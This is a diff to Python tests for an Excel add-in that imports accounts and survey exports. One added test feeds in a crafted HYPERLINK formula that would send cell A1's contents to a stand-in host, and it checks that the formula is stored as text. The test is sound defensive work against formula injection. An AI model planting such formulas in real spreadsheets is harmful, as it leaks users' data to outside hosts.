@@ -29,6 +29,11 @@ class FakeRange:
 
     @value.setter
     def value(self, value):
+        """As Excel takes a value through COM: a leading apostrophe marks text, a string starting with = a formula."""
+        if isinstance(value, str) and value.startswith("'"):
+            value = value[1:]
+        elif isinstance(value, str) and value.startswith("="):
+            self.book.formulas.append(self.place)
         self.book.written[self.place] = value
 
 
@@ -46,6 +51,7 @@ class FakeBook:
     def __init__(self, path: Path, picked, answer="yes"):
         self.fullname = str(path)
         self.written: dict[str, object] = {}
+        self.formulas: list[str] = []  # cells the macro made formulas
         self.alerts: list[tuple[str, str | None]] = []
         book = self
 
@@ -102,6 +108,23 @@ def test_survey_button_fills_the_counts_of_the_open_workbook(tmp_path, seed, cal
     assert (card.survey.total, card.survey.average, card.total) == (Decimal(4835), Decimal("98.67"), Decimal("93.56"))
 
 
+def test_survey_button_fills_blank_counts_and_titles_as_the_command_does(tmp_path, seed, caller):
+    """收回/有效 blank and no titles: the button completes the sheet (it once said the workbook had no questions)."""
+    refs = [survey_sheet.ISSUED, survey_sheet.RETURNED, survey_sheet.VALID]
+    for q in seed.survey.questions:
+        rows = survey_sheet.question_rows(q.number)
+        refs += [f"B{rows[0]}", *(f"F{row}" for row in rows[: len(q.options)])]
+    path = _cleared(tmp_path, survey_sheet.NAME, refs)
+    export = write_xlsx(tmp_path / "812345678_按序号_满意度调查_50_50.xlsx", {"Sheet1": survey_table(seed.survey, "按序号")})
+    book = caller(FakeBook(path, str(export)))
+    macros.import_survey_export()
+    (message, buttons), = book.alerts  # nothing typed is replaced: no question asked
+    assert message.startswith("已导入问卷星数据") and "第1–10题的题目取自导出文件" in message
+    first = survey_sheet.question_rows(1)[0]
+    assert book.written[f"{survey_sheet.NAME}!B{first}"] == seed.survey.questions[0].text
+    assert [book.written[f"{survey_sheet.NAME}!{ref}"] for ref in refs[:3]] == [50, 50, 49]
+
+
 def test_accounts_button_asks_before_replacing_and_writes_nothing_when_refused(tmp_path, seed, caller):
     seed.accounts.set(60, "final", seed.accounts.get(60, "final") + Decimal(100))
     export = write_xlsx(tmp_path / "部门决算.xlsx", {FORM_SHEET: form_table(seed.accounts), "Z12 资产负债简表": assets_table()})
@@ -145,3 +168,24 @@ def test_every_import_button_has_a_free_cell_on_its_sheet():
     for _, entry, _, sheet in IMPORT_BUTTONS:
         assert callable(getattr(macros, entry))
         assert sample[sheet][SHEET_BUTTON_CELLS[sheet]].value is None
+
+
+def test_text_from_an_export_is_written_as_text_never_as_a_formula(tmp_path, seed, caller):
+    """A crafted 编制单位 in the export fills a blank 单位名称: the button (through xlwings) and the command
+    (through openpyxl) both write it as the text it is."""
+    from xladdin.cli import main
+    from xladdin.workbook import info as info_sheet
+
+    crafted = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
+    place = info_sheet.cell("unit_name")
+    path = _cleared(tmp_path, info_sheet.NAME, [place])
+    export = write_xlsx(tmp_path / "部门决算.xlsx", {FORM_SHEET: form_table(seed.accounts, unit=crafted)})
+    book = caller(FakeBook(path, str(export)))
+    macros.import_accounts_export()
+    assert book.alerts[-1][0].startswith("已导入部门决算数据"), book.alerts
+    assert book.written[f"{info_sheet.NAME}!{place}"] == crafted and book.formulas == []
+
+    out = tmp_path / "导入.xlsx"
+    assert main(["import", "accounts", str(export), "--into", str(path), "-o", str(out)]) in (0, 1)
+    cell = load_workbook(out)[info_sheet.NAME][place]
+    assert (cell.value, cell.data_type) == (crafted, "s")
